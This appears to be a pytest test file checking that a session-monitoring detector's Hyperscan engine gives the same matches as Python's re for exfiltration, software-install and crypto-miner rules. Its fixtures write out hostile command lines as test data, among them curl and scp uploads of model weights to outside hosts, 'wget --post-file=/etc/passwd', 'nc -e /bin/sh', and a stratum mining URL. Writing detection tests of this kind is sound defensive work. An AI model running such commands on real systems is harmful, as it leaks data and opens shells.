"""Session content through the Hyperscan engine: the same findings Python's `re` gave.

Word boundaries, case, a match split across reads and across the engine's 64 KiB
slices, which rule and which pattern matched and on which line, matches that cross a
newline, patterns the engine cannot run refused at policy check, and an engine that
cannot run failing the pass loudly instead of reading bytes it does not judge.
"""

from __future__ import annotations

import random
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from broker.app import App
from broker.config.loader import load_settings
from broker.core import multimatch
from broker.core.errors import UnavailableError
from broker.detect import content
from broker.detect.content import ContentMatcher, excerpt
from broker.detect.engine import Detector, Recording, new_memory
from broker.policy.detection_rules import DEFAULT, Detection, Rule
from broker.sessions.index import Indexer
from tests.unit.test_detect import detection, problems_of, record
from tests.unit.test_sessions_iolog import log_json, write_recording

T0 = datetime(2026, 11, 23, 10, 0, 0, tzinfo=UTC)
REC = Recording("00000C", "gpu01", "alice", "g0123456789abcdef")
SITE = (
    '[detect.rules.exfiltration]\ncooldown = "0s"\n'
    '[detect.rules.software-install]\ncooldown = "0s"\n'
    '[detect.rules.miner]\nkind = "session_match"\ncooldown = "0s"\n'
    "patterns = ['\\b(?i:xmrig|ethminer)\\b', 'stratum\\+tcp://[a-z0-9.-]+:[0-9]+']\n"
    '[detect.rules.spanning]\nkind = "session_match"\ncooldown = "0s"\n'
    "patterns = ['\\bnc\\s+-e\\s+/bin/sh\\b']\n"
)


def found(detector: Detector, text: bytes, kind: str = "input") -> list[tuple[str, str, str]]:
    hits, _ = detector.stream(REC, kind, text, b"", T0.timestamp(), 0)
    return [(f.rule, f.details["pattern"], f.details["excerpt"]) for f in hits]


def reference(rules: list[Rule], text: bytes) -> list[tuple[str, str, str]]:
    """What the detector reported before the engine: each rule's alternation searched
    over the block by Python's re, the line around the leftmost match."""
    out = []
    for rule in rules:
        assert rule.regex is not None
        m = rule.regex.search(text)
        if m is None:
            continue
        start = text.rfind(b"\n", 0, m.start()) + 1
        end = text.find(b"\n", m.end())
        line = text[start : end if end >= 0 else len(text)]
        out.append((rule.name, rule.patterns[int((m.lastgroup or "p0")[1:])], excerpt(line)))
    return out


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        (b"scp /data/checkpoints/a.pt x:", "exfiltration"),
        (b"cd /tmp; scp /data/checkpoints/a.pt x:", "exfiltration"),  # \b after ;
        (b"-scp /data/checkpoints/a.pt x:", "exfiltration"),  # \b between - and s
        (b"scpx /data/checkpoints/a.pt x:", None),  # no \b after scp
        (b"myscp /data/checkpoints/a.pt x:", None),  # no \b before scp
        (b"_scp /data/checkpoints/a.pt x:", None),  # _ is a word character
        (b"scp /data/checkpointsX/a.pt x:", None),  # no \b after the path
        (b"scp /data/checkpoints_old x:", None),
        (b"\x1b[01;31mroot@gpu\x1b[00m# rsync -a /models/ x:", "exfiltration"),
        (b"SCP /data/checkpoints/a.pt x:", None),  # built-ins are case-sensitive
        (b"APT-GET install htop", None),
        (b"./XMRig --donate-level 1", "miner"),  # (?i:...) as written in the policy
        (b"xmrigger", None),
        (b"scp\xc3\xa9 /data/checkpoints x", "exfiltration"),  # bytes: \xc3 is no word char
        (b"\xc3\xa9scp /data/checkpoints x", "exfiltration"),
    ],
)
def test_word_boundaries_and_case_are_those_of_pythons_re_on_bytes(
    line: bytes, rule: str | None
) -> None:
    detector = Detector(detection(SITE), new_memory())
    got = [r for r, _, _ in found(detector, line + b"\n")]
    rules = list(detector.content.rules("input"))
    assert got == [r for r, _, _ in reference(rules, line + b"\n")]
    assert got == ([rule] if rule else [])


def test_it_names_the_rule_the_pattern_and_the_line() -> None:
    detector = Detector(detection(SITE), new_memory())
    text = (
        b"ls -la\n"
        b"curl -T weights.bin https://paste.example/up\n"
        b"pip install --user torch\n"
        b"scp /data/checkpoints/a.pt x:\n"
        b"echo stratum+tcp://pool.example:3333 > cfg\n"
    )
    assert found(detector, text) == [
        ("exfiltration", DEFAULT.rules["exfiltration"].patterns[2],
         "curl -T weights.bin https://paste.example/up"),
        ("software-install", DEFAULT.rules["software-install"].patterns[3],
         "pip install --user torch"),
        ("miner", "stratum\\+tcp://[a-z0-9.-]+:[0-9]+", "echo stratum+tcp://pool.example:3333 > cfg"),
    ]  # fmt: skip
    # Output does not see input-only rules, and the message names the pattern's number.
    hits, _ = detector.stream(REC, "input", b"dpkg -i x.deb\n", b"", T0.timestamp(), 7)
    assert hits[0].message.endswith("matched pattern 2") and hits[0].source.endswith(":7")


def test_a_match_that_crosses_a_newline_is_reported_where_re_reports_it() -> None:
    detector = Detector(detection(SITE), new_memory())
    text = b"nc -e\n/bin/sh\nnc -e /bin/sh\n"  # \s+ takes the newline (\r is one too)
    rules = list(detector.content.rules("input"))
    assert found(detector, text) == reference(rules, text)
    assert found(detector, text)[0][2] == "nc -e /bin/sh"  # both lines, the newline a space


def test_a_line_split_across_reads_or_slices_is_matched_once() -> None:
    line = b"scp /data/checkpoints/llama-70b/step-9000.pt eve@203.0.113.9:/srv/\r"
    for cut in range(1, len(line)):
        detector = Detector(detection(SITE), new_memory())
        first, carry = detector.stream(REC, "input", line[:cut], b"", T0.timestamp(), 0)
        second, carry = detector.stream(REC, "input", line[cut:], carry, T0.timestamp(), cut)
        assert (first, [f.rule for f in second], carry) == ([], ["exfiltration"], b"")
    # The engine scans in 64 KiB slices of one stream: a match across a slice boundary.
    pad = b"x" * 70 + b"\n"
    for shift in (-30, -5, 0, 5):
        block = pad * ((multimatch.SLICE + shift) // len(pad))
        block += b"z" * (multimatch.SLICE + shift - len(block)) + b"\n"
        text = block[:-40] + b"\n" + line.replace(b"\r", b"\n")
        detector = Detector(detection(SITE), new_memory())
        assert [r for r, _, _ in found(detector, text, "output")] == ["exfiltration"]


def test_random_blocks_give_the_findings_re_gives() -> None:
    """Lines a shell shows, with matching lines and near misses mixed in at random."""
    rng = random.Random(23)
    pieces = [
        b"ls -la /data/checkpoints", b"tail -f train.log", b"Saved checkpoint to /data/x",
        b"scp /data/datasets/x y:", b"rsync -a /modelsX y:", b"tar czf - /models | ssh x",
        b"apt install -y vim", b"aptitude  install foo", b"yum -q reinstall bash",
        b"rpm -Uvh x.rpm", b"rpm -q bash", b"python3 -m pip install x", b"mamba create -n a",
        b"wget --post-file=/etc/passwd x", b"wget -q --post-file /x y", b"nc -e", b"/bin/sh",
        b"XMRIG", b"stratum+tcp://a.b:1", b"\x1b[0m\x07", b"curl -F f=@x u", b"dpkg  --install",
    ]  # fmt: skip
    detector = Detector(detection(SITE), new_memory())
    for kind in ("input", "output"):
        rules = list(detector.content.rules(kind))
        for _ in range(300):
            lines = [b" ".join(rng.choices(pieces, k=rng.randint(1, 3))) for _ in range(6)]
            text = b"\n".join(lines) + b"\n"
            assert found(detector, text, kind) == reference(rules, text), text


def test_the_engine_spares_re_for_rules_cooling_down() -> None:
    calls: list[str] = []
    detector = Detector(DEFAULT, new_memory())  # 10 minutes of cool-down per session
    real = content._locate

    def counting(rule: Rule, text: bytes, end: int) -> content.Hit | None:
        calls.append(rule.name)
        return real(rule, text, end)

    content._locate = counting  # type: ignore[assignment]
    try:
        assert [r for r, _, _ in found(detector, b"apt install x\n")] == ["software-install"]
        assert found(detector, b"apt install y\n") == []
    finally:
        content._locate = real  # type: ignore[assignment]
    assert calls == ["software-install"]


@pytest.mark.parametrize(
    ("pattern", "says"),
    [
        ("(?=scp)scp", "the detection engine cannot run it"),
        ("(?>scp)", "the detection engine cannot run it"),
        ("scp++", "the detection engine cannot run it"),
        ("x{,3}y", "write {0,n}"),
        ("xmrig\\Z", "use $"),
    ],
)
def test_a_pattern_the_engine_cannot_run_is_a_policy_error(pattern: str, says: str) -> None:
    text = "\n".join(
        problems_of(f"[detect.rules.odd]\nkind = \"session_match\"\npatterns = ['{pattern}']\n")
    )
    assert "patterns[0]" in text and says in text


def test_without_the_engine_policy_check_refuses_session_rules(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(multimatch, "unavailable", lambda: "Hyperscan needs SSSE3")
    assert any("session_match rules cannot run here: Hyperscan needs SSSE3" in p
               for p in problems_of(""))  # fmt: skip
    off = (
        "[detect.rules.exfiltration]\nenabled = false\n"
        "[detect.rules.software-install]\nenabled = false\n"
    )
    assert problems_of(off) == []  # no session rule, nothing the engine must run


def test_without_the_engine_a_pass_judges_events_keeps_bytes_and_fails(
    broker_config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = App(load_settings(broker_config))
    root = app.settings.session_store
    root.mkdir(parents=True)
    app.detection().run(T0)
    write_recording(root, "000001", [("ttyin", 0.5, b"scp /data/checkpoints/m.pt x:\r")],
                    log=log_json(user="alice", node="gpu01"), complete=False)  # fmt: skip
    Indexer(app.ready_store(), str(root)).run(T0 + timedelta(seconds=1))
    for i in range(5):
        record(app, "mfa.verify", "bob", T0 + timedelta(seconds=i), outcome="refused",
               details={"reason": "wrong code"})  # fmt: skip
    monkeypatch.setattr(content.multimatch, "unavailable", lambda: "Hyperscan needs SSSE3")
    with pytest.raises(UnavailableError, match="session content is not being judged"):
        app.detection().run(T0 + timedelta(seconds=2))
    conn = app.ready_store().conn
    assert conn.execute("SELECT rule FROM alerts").fetchall() == [("mfa-failures",)]
    assert conn.execute("SELECT COUNT(*) FROM detect_streams").fetchone() == (0,)
    monkeypatch.undo()  # the engine is back: the bytes are judged, none skipped
    report = app.detection().run(T0 + timedelta(seconds=3))
    assert report.bytes > 0 and len(report.alerts) == 1
    app.close()


def test_detection_default_has_no_rule_the_engine_refuses() -> None:
    for rule in Detection().rules.values():
        for pattern in rule.patterns:
            assert multimatch.problem(pattern) is None, pattern
            assert re.compile(pattern.encode())  # and Python's re still confirms each match
    assert ContentMatcher([]).unavailable is None
